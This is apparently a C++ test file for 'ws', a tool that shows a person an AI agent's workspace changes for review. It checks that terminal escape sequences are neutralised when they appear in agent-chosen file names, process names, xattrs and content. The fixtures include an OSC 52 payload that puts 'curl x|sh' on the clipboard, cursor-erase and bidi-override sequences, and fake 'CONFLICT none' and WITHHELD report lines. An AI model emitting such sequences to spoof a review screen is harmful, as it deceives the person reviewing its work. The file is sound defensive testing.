// What ws prints outside the review screen, with names, process names, xattr names and
// content an agent chose: no byte of it may act on the person's terminal (move the cursor,
// erase a line, set the clipboard with OSC 52, reorder text with bidi controls), and no
// content may render as a line of ws's own verdict report.
#include "tests/support/harness.hpp"

#include <doctest/doctest.h>

#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

using namespace ws::test;
namespace fs = std::filesystem;

namespace {

constexpr auto npos = std::string::npos;

/// OSC 52: puts "curl x|sh" (base64) on the clipboard of terminals that allow it.
const std::string k_osc52 = "\x1b]52;c;Y3VybCB4fHNo\x07";
/// Cursor up one line, erase it: hides the line printed before.
const std::string k_erase_above = "\x1b[1A\x1b[2K";
const std::string k_rlo = "\xe2\x80\xae"; // U+202E RIGHT-TO-LEFT OVERRIDE
const std::string k_c1_csi = "\xc2\x9b";  // U+009B, CSI on terminals that take C1
const std::string k_raw_csi = "\x9b";     // CSI as a lone byte (8-bit terminals)
const std::string k_lri = "\xe2\x81\xa6"; // U+2066 LEFT-TO-RIGHT ISOLATE

/// The first thing in `s` a terminal would act on rather than show, described; "" if none.
/// Newlines are allowed, and tabs when `tabs`. An independent oracle: it does not share
/// code with ws's own escaping.
std::string unsafe_in(const std::string& s, bool tabs = false) {
  for (size_t i = 0; i < s.size();) {
    auto c = static_cast<unsigned char>(s[i]);
    if (c == '\n' || (tabs && c == '\t')) {
      ++i;
      continue;
    }
    if (c < 0x20 || c == 0x7f) {
      return "control byte " + std::to_string(c) + " at " + std::to_string(i);
    }
    if (c < 0x80) {
      ++i;
      continue;
    }
    size_t n = (c >> 5) == 0x6 ? 2 : (c >> 4) == 0xe ? 3 : (c >> 3) == 0x1e ? 4 : 0;
    if (n == 0 || i + n > s.size()) {
      return "invalid UTF-8 byte " + std::to_string(c) + " at " + std::to_string(i);
    }
    uint32_t cp = c & (n == 2 ? 0x1f : n == 3 ? 0x0f : 0x07);
    for (size_t k = 1; k < n; ++k) {
      auto cc = static_cast<unsigned char>(s[i + k]);
      if ((cc >> 6) != 0x2) {
        return "invalid UTF-8 at " + std::to_string(i);
      }
      cp = (cp << 6) | (cc & 0x3f);
    }
    if ((cp >= 0x80 && cp <= 0x9f) || (cp >= 0x202a && cp <= 0x202e) ||
        (cp >= 0x2066 && cp <= 0x2069) || cp == 0x200e || cp == 0x200f || cp == 0x061c) {
      return "control code point " + std::to_string(cp) + " at " + std::to_string(i);
    }
    i += n;
  }
  return "";
}

/// Runs python3 code in the view (the bytes of names and content are easiest to get exact
/// there).
Run py_in_view(const MountedWorkspace& w, const std::string& code) {
  return w.in_view("python3 -c " + q(code));
}

/// `ws ARGS` of `w` on a real terminal: a private tmux server of 200x100 runs it, and the
/// screen as the terminal rendered it is returned (text, no attributes), once ws exited.
std::string on_terminal(const MountedWorkspace& w, const TestRepo& repo, const std::string& args,
                        const std::string& env = "") {
  TempDir dir;
  std::string socket = (dir.path() / "tmux.sock").string();
  std::string cmd = "cd " + q(repo.path().string()) +
                    " && XDG_DATA_HOME=" + q((w.state_root() / "data").string()) +
                    " XDG_RUNTIME_DIR=" + q((w.state_root() / "run").string()) + " " + env + " " +
                    q(ws_binary().string()) + " " + args + "; echo ws-exit=$?; sleep 600";
  Run r = sh("tmux -S " + q(socket) + " -f /dev/null new-session -d -x 200 -y 100 " + q(cmd));
  REQUIRE_MESSAGE(r.status == 0, r.err);
  std::string screen;
  auto until = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  while (std::chrono::steady_clock::now() < until) {
    screen = sh("tmux -S " + q(socket) + " capture-pane -p -S -1000").out;
    if (screen.find("ws-exit=") != npos) {
      break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  sh("tmux -S " + q(socket) + " kill-server");
  REQUIRE_MESSAGE(screen.find("ws-exit=") != npos, "ws never finished; the screen:\n" << screen);
  return screen;
}

std::vector<std::string> split_lines(const std::string& s) {
  std::vector<std::string> out;
  std::istringstream in(s);
  for (std::string line; std::getline(in, line);) {
    out.push_back(line);
  }
  return out;
}

size_t lines_starting(const std::string& screen, const std::string& prefix) {
  size_t n = 0;
  for (const auto& line : split_lines(screen)) {
    n += line.rfind(prefix, 0) == 0 ? 1 : 0;
  }
  return n;
}

bool have_tmux() {
  return sh("command -v tmux").status == 0;
}

} // namespace

TEST_CASE("terminal safety: ws log escapes process names an agent set with prctl") {
  TestRepo repo;
  MountedWorkspace w(repo);
  // Each writer names itself with prctl(PR_SET_NAME) (15 bytes at most), then writes.
  for (const auto& [file, name] :
       std::vector<std::pair<std::string, std::string>>{{"osc.txt", k_osc52.substr(0, 15)},
                                                        {"csi.txt", k_erase_above},
                                                        {"c1.txt", "a" + k_c1_csi + "2K"},
                                                        {"raw.txt", "b" + k_raw_csi + "2K"},
                                                        {"bidi.txt", "c" + k_rlo + "hs.txt"}}) {
    std::string bytes;
    for (unsigned char c : name) {
      bytes += "\\x" + std::string(1, "0123456789abcdef"[c >> 4]) + "0123456789abcdef"[c & 15];
    }
    Run r = py_in_view(w, "import ctypes\n"
                          "libc = ctypes.CDLL(None)\n"
                          "assert libc.prctl(15, b'" +
                              bytes +
                              "', 0, 0, 0) == 0\n"
                              "open('" +
                              file + "', 'w').write('x')\n");
    REQUIRE_MESSAGE(r.status == 0, r.err);
  }
  Run log = w.ws("log");
  REQUIRE_MESSAGE(log.status == 0, log.err);
  CHECK(log.out.find("osc.txt") != npos);
  CHECK_MESSAGE(unsafe_in(log.out) == "", log.out);
  // One entry, one line: nothing an agent names can start a new one.
  for (const auto& line : split_lines(log.out)) {
    CHECK(line.rfind("20", 0) == 0);
  }

  // --json stays valid JSON, and the names it holds are the names the agent set.
  Run json = w.ws("log --json");
  REQUIRE(json.status == 0);
  CHECK_MESSAGE(unsafe_in(json.out) == "", json.out);
  fs::path saved = repo.path().parent_path() / "log.json";
  { std::ofstream(saved) << json.out; }
  Run parsed = sh("python3 -c " +
                  q("import json, sys\n"
                    "e = json.load(open(sys.argv[1], encoding='utf-8', "
                    "errors='surrogateescape'))\n"
                    "names = {x['comm'] for x in e}\n"
                    "assert '\\x1b[1A\\x1b[2K' in names, names\n"
                    "assert 'a\\u009b2K' in names, names\n"
                    "assert 'c\\u202ehs.txt' in names, names\n"
                    "print('ok')\n") +
                  " " + q(saved.string()));
  CHECK_MESSAGE(parsed.out == "ok\n", parsed.err);
}

TEST_CASE("terminal safety: ws log escapes xattr names") {
  TestRepo repo;
  MountedWorkspace w(repo);
  Run r = py_in_view(w, "import os\n"
                        "os.setxattr('README.md', 'user.\\x1b]52;c;Y3VybCB4fHNo\\x07', b'v')\n"
                        "os.setxattr('README.md', 'user.\\u202e\\u0085x', b'v')\n"
                        "os.removexattr('README.md', 'user.\\u202e\\u0085x')\n");
  REQUIRE_MESSAGE(r.status == 0, r.err);
  Run log = w.ws("log");
  REQUIRE(log.status == 0);
  CHECK(log.out.find("setxattr") != npos);
  CHECK(log.out.find("removexattr") != npos);
  CHECK_MESSAGE(unsafe_in(log.out) == "", log.out);
  Run json = w.ws("log --json");
  CHECK_MESSAGE(unsafe_in(json.out) == "", json.out);
  CHECK(json.out.find("\"detail\": \"user.\\u001b]52;c;Y3VybCB4fHNo\\u0007\"") != npos);
}

TEST_CASE("terminal safety: odd names in ws diff --stat and ws status stay one visible line") {
  TestRepo repo;
  MountedWorkspace w(repo);
  Run r = py_in_view(w, "import os\n"
                        "for n in [b'esc\\x1b[31mred.txt', b'new\\nline.txt', "
                        "b'bidi\\xe2\\x80\\xaetxt.sh', b'c1\\xc2\\x9bx.txt', b'raw\\x9b.txt', "
                        "b'iso\\xe2\\x81\\xa6.txt']:\n"
                        "    open(n, 'wb').write(b'one\\n')\n"
                        "os.symlink(b'/tmp/\\xe2\\x80\\xae\\xc2\\x9b\\x9bx', b'link')\n");
  REQUIRE_MESSAGE(r.status == 0, r.err);

  Run stat = w.ws("diff --stat --no-pager --color=never");
  REQUIRE_MESSAGE(stat.status == 0, stat.err);
  CHECK_MESSAGE(unsafe_in(stat.out) == "", stat.out);
  CHECK(stat.out.find(" \"new\\nline.txt\" ") != npos); // quoted as git quotes it
  CHECK(stat.out.find("6 files changed") != npos);
  // One line a file, the total, and one "create mode" line a file.
  CHECK(split_lines(stat.out).size() == 13);
  CHECK(stat.out.find(" create mode 100644 \"new\\nline.txt\"\n") != npos);

  Run status = w.ws("status");
  REQUIRE_MESSAGE(status.status == 0, status.err);
  CHECK_MESSAGE(unsafe_in(status.out) == "", status.out);
  CHECK(split_lines(status.out).size() == 7);
  CHECK(status.out.find("symlink to an absolute path") != npos);

  // The same reason in the verdict report of ws diff and ws apply.
  Run diff = w.ws("diff --no-pager --color=never");
  CHECK_MESSAGE(unsafe_in(diff.err) == "", diff.err);
  Run withheld = w.ws("diff --withheld --color=never");
  CHECK_MESSAGE(unsafe_in(withheld.out) == "", withheld.out);
  Run apply = w.ws("apply");
  CHECK_MESSAGE(apply.status == 0, apply.err);
  CHECK_MESSAGE(unsafe_in(apply.out) == "", apply.out);
  CHECK_MESSAGE(unsafe_in(apply.err) == "", apply.err);
  CHECK(apply.err.find("symlink to an absolute path") != npos);
}

TEST_CASE("terminal safety: the conflict listing of ws apply escapes the agent's lines") {
  TestRepo repo;
  std::string base;
  for (int i = 1; i <= 20; ++i) {
    base += "line " + std::to_string(i) + "\n";
  }
  repo.write("notes.txt", base);
  repo.commit_all();
  MountedWorkspace w(repo);
  // The agent's line 10 would set the clipboard, erase the line above, and print a fake
  // line of ws's own over its own start.
  Run r = py_in_view(w, "p = 'notes.txt'\n"
                        "t = open(p).read().split('\\n')\n"
                        "t[9] = 'agent \\x1b]52;c;Y3VybCB4fHNo\\x07\\x1b[1A\\x1b[2K\\u202e\\u009b"
                        "\\rCONFLICT none: all applied'\n"
                        "open(p, 'w').write('\\n'.join(t))\n");
  REQUIRE_MESSAGE(r.status == 0, r.err);
  std::string person = base;
  person.replace(person.find("line 10\n"), 8, "person's line 10\n");
  repo.write("notes.txt", person);

  Run a = w.ws("apply");
  CHECK(a.status == 1);
  CHECK(a.err.find("CONFLICT you and the agent changed the same lines of notes.txt") != npos);
  CHECK(a.err.find("person's line 10") != npos);
  CHECK_MESSAGE(unsafe_in(a.err, true) == "", a.err);
  for (const auto& line : split_lines(a.err)) {
    CHECK(line.rfind("CONFLICT none", 0) == npos);
  }
}

TEST_CASE("terminal safety: an error message naming the agent's path is escaped") {
  if (::geteuid() != 0 || sh("command -v chattr").status != 0) {
    MESSAGE("skipped: making a directory refuse writes needs root and chattr");
    return;
  }
  TestRepo repo;
  MountedWorkspace w(repo);
  REQUIRE(py_in_view(w, "open('src/x\\x1b]52;c;Y3VybCB4fHNo\\x07\\u202e.c', 'w').write('x')\n")
              .status == 0);
  std::string dir = (repo.path() / "src").string();
  if (sh("chattr +i " + q(dir)).status != 0) {
    MESSAGE("skipped: chattr +i unsupported here");
    return;
  }
  Run a = w.ws("apply");
  sh("chattr -i " + q(dir));
  CHECK(a.status == 1);
  CHECK(a.err.find("ws: error:") != npos);
  CHECK_MESSAGE(unsafe_in(a.err) == "", a.err);
}

TEST_CASE("terminal safety: ws diff content on a terminal cannot imitate the verdict report") {
  if (!have_tmux()) {
    MESSAGE("skipped: no tmux");
    return;
  }
  TestRepo repo;
  MountedWorkspace w(repo);
  // A real verdict: a new executable is withheld. Then content that, printed raw, renders as
  // report lines of its own: a carriage return back to column 0, and an erase of the line
  // above.
  REQUIRE(w.in_view("printf '#!/bin/sh\\nid\\n' > tool.sh && chmod +x tool.sh").status == 0);
  REQUIRE(py_in_view(w,
                     "open('fake.txt', 'w').write('ok\\n'"
                     "'\\r# WITHHELD: not in the patch (take one anyway with --include PATH):\\n'"
                     "'\\r#   A  harmless.txt  new executable\\n'"
                     "'\\x1b[8m hidden\\n'"
                     "'\\u202e\\u009b2K\\n')\n"
                     // Nor can a name: git quotes it in the patch headers.
                     "open('x\\n#   A  harmless.txt  new executable', 'w').write('z\\n')\n")
              .status == 0);
  const std::string real = "# WITHHELD: not in the patch (take one anyway with --include PATH):";
  for (const std::string& how :
       {std::string("diff --no-pager"), std::string("diff --no-pager --color=never"),
        std::string("diff")}) {
    CAPTURE(how);
    // `tee`: a pager that passes every byte to the terminal as it came.
    std::string screen = on_terminal(w, repo, how, "WS_PAGER='tee /dev/null'");
    CHECK_MESSAGE(lines_starting(screen, real) == 1, screen);
    CHECK_MESSAGE(lines_starting(screen, "#   A  harmless.txt") == 0, screen);
    CHECK_MESSAGE(lines_starting(screen, "#   A  tool.sh") == 1, screen);
    CHECK(screen.find("+ok") != npos);
  }

  // In a pipe the patch is bytes, exactly: `git apply` takes what was reviewed.
  Run piped = w.ws("diff --no-pager > " + q((repo.path().parent_path() / "p.patch").string()));
  REQUIRE(piped.status == 0);
  Run raw = sh("cat " + q((repo.path().parent_path() / "p.patch").string()));
  CHECK(raw.out.find("+\r# WITHHELD: not in the patch") != npos);
  CHECK(raw.out.find("+\x1b[8m hidden\n") != npos);
  CHECK(piped.err.find(real) != npos); // the report, on stderr
  Run check =
      sh("git apply --check " + q((repo.path().parent_path() / "p.patch").string()), repo.path());
  CHECK_MESSAGE(check.status == 0, check.err);
}
